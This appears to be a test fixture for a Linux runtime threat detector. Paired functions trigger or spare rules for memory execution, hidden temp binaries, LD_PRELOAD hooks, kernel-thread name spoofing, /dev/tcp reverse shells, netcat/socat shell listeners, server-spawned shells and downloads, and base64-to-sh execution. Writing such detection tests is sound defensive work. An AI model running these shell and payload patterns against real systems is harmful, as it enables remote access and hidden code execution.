# Programs run from memory, from directories for temporary files, under false names, and out of servers and encoded text.

fires_program_run_from_memory_file() { $act memory-run /bin/true; }
spares_program_run_from_memory_file() { $act memory-keep /bin/true; }

before_program_run_from_shared_memory() {
    disguise /dev/shm/agent /opt/agent
    echo id >/dev/shm/run.sh
}
fires_program_run_from_shared_memory() {
    /dev/shm/agent
    sh /dev/shm/run.sh
}
spares_program_run_from_shared_memory() {
    sh -c 'ls /dev/shm/; true'
    (cd /dev/shm && /opt/agent)
}

before_hidden_program_run_from_temporary_directory() { disguise /var/tmp/.x/update /tmp/build/configure; }
fires_hidden_program_run_from_temporary_directory() { /var/tmp/.x/update; }
spares_hidden_program_run_from_temporary_directory() { /tmp/build/configure --prefix=/usr; }

before_program_run_with_preload_from_temporary_directory() { cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/libhook.so; }
fires_program_run_with_preload_from_temporary_directory() { LD_PRELOAD=/tmp/libhook.so ls -l /; }
spares_program_run_with_preload_from_temporary_directory() { LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libz.so.1 ls -l /; }

before_program_disguised_as_kernel_thread() { disguise /home/alice/bin/agent; }
fires_program_disguised_as_kernel_thread() { $act named '[kworker/u8:2]' /home/alice/bin/agent; }
spares_program_disguised_as_kernel_thread() { bash -c 'exec -a -agent /home/alice/bin/agent'; }

before_shell_connected_to_network_socket() { disguise /opt/xinetd; }
fires_shell_connected_to_network_socket() { bash -c 'bash -c id <>/dev/tcp/203.0.113.7/4433 >&0'; }
spares_shell_connected_to_network_socket() {
    /opt/xinetd hand-over 203.0.113.7 4433 sh -c true
    echo id | bash
}

before_standard_stream_moved_onto_network_socket() { disguise /opt/xinetd; }
fires_standard_stream_moved_onto_network_socket() { bash -c 'exec 3<>/dev/tcp/203.0.113.7/4433; echo hello >&3; cat <&3'; }
spares_standard_stream_moved_onto_network_socket() {
    /opt/xinetd hand-over 203.0.113.7 4433 true
    bash -c 'cat </etc/hostname >/tmp/copy 2>&1'
}

fires_netcat_hands_connection_to_program() {
    timeout 2 nc.traditional -l -p 4499 -e /bin/sh &
    timeout 2 socat TCP-LISTEN:4498 EXEC:/bin/sh &
    wait
}
spares_netcat_hands_connection_to_program() { nc.traditional -z 203.0.113.7 443; }

before_shell_spawned_by_server_program() { disguise /opt/nginx /opt/postgres; }
fires_shell_spawned_by_server_program() { /opt/nginx spawn sh -c 'test -w /var/www; true'; }
spares_shell_spawned_by_server_program() {
    /opt/postgres spawn sh -c 'pg_archivecleanup /var/lib/wal 000000010000000000000042; true'
    /opt/nginx spawn true
}

before_download_started_below_server_program() { disguise /opt/php-fpm8.2 /opt/app; }
fires_download_started_below_server_program() {
    /opt/php-fpm8.2 spawn /opt/app spawn curl -s -m 2 -o /tmp/next http://203.0.113.7/a
}
spares_download_started_below_server_program() { /opt/app spawn curl -s -m 2 -o /tmp/page http://198.51.100.80/a; }

fires_shell_runs_decoded_text() { sh -c 'echo aWQK | base64 -d | sh'; }
spares_shell_runs_decoded_text() {
    sh -c 'echo aWQK | base64 -d >/tmp/certificate'
    grep -r 'base64 -d | sh' /srv
}

before_compiler_run_below_server_program() { disguise /opt/gcc /opt/mysqld; }
fires_compiler_run_below_server_program() { /opt/mysqld spawn /opt/gcc signal 0 1; }
spares_compiler_run_below_server_program() { /opt/gcc signal 0 1; /opt/mysqld spawn /usr/bin/true; }
